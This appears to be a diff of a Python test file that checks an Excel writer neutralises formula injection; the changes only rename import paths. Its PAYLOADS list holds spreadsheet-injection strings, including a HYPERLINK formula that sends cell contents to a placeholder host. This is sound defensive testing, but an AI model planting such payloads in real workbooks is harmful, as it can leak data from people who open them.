@@ -1,7 +1,7 @@
 """The one Excel writer: text from data never becomes a formula, and both workbooks look alike.
 
 Workbooks are built through the real entry points (``gis overlay --xlsx`` and
-:func:`gis.report.write_bulletin`) from layers whose project names, districts,
+:func:`gis.products.bulletin.write_bulletin`) from layers whose project names, districts,
 leaders and patrol notes carry formula payloads, then re-opened with openpyxl.
 """
 
@@ -17,9 +17,9 @@ from click.testing import CliRunner
 import mapsdata
 from conftest import make_parcels, make_redlines, square
 from gis.cli import main
-from gis.excel import FORMULA_PREFIXES, Sheet, display_width, write_workbook
-from gis.pipeline import clearance
-from gis.report import write_bulletin
+from gis.products.excel import FORMULA_PREFIXES, Sheet, display_width, write_workbook
+from gis.clearance.pipeline import clearance
+from gis.products.bulletin import write_bulletin
 
 #: One payload per prefix OWASP lists (=, +, -, @, tab, CR).
 PAYLOADS = ['=HYPERLINK("http://x/?"&A2,"查看")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
@@ -27,7 +27,7 @@ AS_OF = dt.date(2026, 11, 21)
 
 
 def as_stored(text: str) -> str:
-    """What a cell can hold: a CR becomes the LF Excel uses for a line break (see gis.excel)."""
+    """What a cell can hold: a CR becomes the LF Excel uses for a line break (see gis.products.excel)."""
     return text.replace("\r", "\n")
 
 
